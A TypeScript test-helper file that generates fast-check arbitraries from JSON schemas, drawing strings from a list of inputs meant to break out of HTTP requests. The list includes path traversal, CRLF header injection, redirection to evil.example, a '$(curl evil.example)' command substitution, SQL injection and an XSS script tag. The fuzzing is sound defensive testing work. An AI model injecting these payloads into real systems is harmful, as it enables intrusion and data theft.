/** Values that a schema of parameters describes, and texts that were made to break out of a request. */
import fc from "fast-check";

type Schema = Record<string, unknown>;

/** Each once changed a request somewhere: its host, its path, its headers or its body. */
const HOSTILE = [
  "..",
  "../..",
  "%2e%2e",
  "..;/admin",
  "a/../../b",
  "//evil.example",
  "http://evil.example/",
  "@evil.example",
  ":80@evil.example",
  "\\\\evil.example\\x",
  "?admin=1",
  "#fragment",
  "a?b=c&d=e#f",
  "x\r\nx-evil: 1",
  "x\nhost: evil.example",
  'a"; filename="b',
  "--boundary--",
  "a\u0000b",
  "\ud83d",
  "%00",
  "$(curl evil.example)",
  "{{config}}",
  "__proto__",
  "' OR 1=1 --",
  "<script>alert(1)</script>",
  " ",
  "",
  "ü🚀",
];

/** Texts for every place that takes one: hostile ones as a rule, or what the schema shows. */
export function paramsFor(schema: Schema, strings: "hostile" | "tame"): fc.Arbitrary<Schema> {
  return objectsFor(schema, strings) as fc.Arbitrary<Schema>;
}

function valueFor(schema: Schema, strings: "hostile" | "tame"): fc.Arbitrary<unknown> {
  if ("const" in schema) return fc.constant(schema.const);
  if (Array.isArray(schema.enum) && strings === "tame") return fc.constantFrom(...schema.enum);
  const forms = schema.anyOf ?? schema.oneOf;
  if (Array.isArray(forms))
    return fc.oneof(...forms.map((form) => valueFor(form as Schema, strings)));

  const [type] = [schema.type].flat();
  if (type === "object") return objectsFor(schema, strings);
  if (type === "array") {
    const items = valueFor((schema.items ?? { type: "string" }) as Schema, strings);
    const least = Number(schema.minItems ?? 0);
    return fc.array(items, { minLength: least, maxLength: Math.max(least, 3) });
  }
  if (type === "boolean") return fc.boolean();
  if (type === "integer" || type === "number") return numberFor(schema);
  return type === "null" ? fc.constant(null) : textFor(schema, strings);
}

function objectsFor(schema: Schema, strings: "hostile" | "tame"): fc.Arbitrary<unknown> {
  const properties = Object.entries((schema.properties ?? {}) as Record<string, Schema>);
  const requiredKeys = (schema.required ?? []) as string[];
  if (properties.length === 0)
    return fc.dictionary(fc.constantFrom("customfield_1", "x"), textFor({}, strings), {
      maxKeys: 2,
      noNullPrototype: true,
    });

  const values = properties.map(([name, inner]) => [name, valueFor(inner, strings)] as const);
  return fc.record(Object.fromEntries(values), { requiredKeys, noNullPrototype: true });
}

function numberFor({ minimum = 0, maximum = 1000 }: Schema): fc.Arbitrary<number> {
  return fc.integer({ min: Number(minimum), max: Math.min(Number(maximum), 2_000_000_000) });
}

function textFor(schema: Schema, strings: "hostile" | "tame"): fc.Arbitrary<string> {
  const example = Array.isArray(schema.examples) ? String(schema.examples[0]) : exampleOf(schema);
  if (strings === "tame") return fc.constant(example);
  return fc.oneof(
    { weight: 4, arbitrary: fc.constantFrom(...HOSTILE, example) },
    { weight: 1, arbitrary: fc.string({ unit: "binary", maxLength: 40 }) },
  );
}

function exampleOf({ format, description }: Schema): string {
  if (format === "date-time") return "2026-11-30T08:00:00Z";
  if (format === "date") return "2026-11-30";
  if (format === "uri") return "https://example.com/";
  return String(description ?? "").includes("base64") ? "aGVsbG8=" : "sample";
}
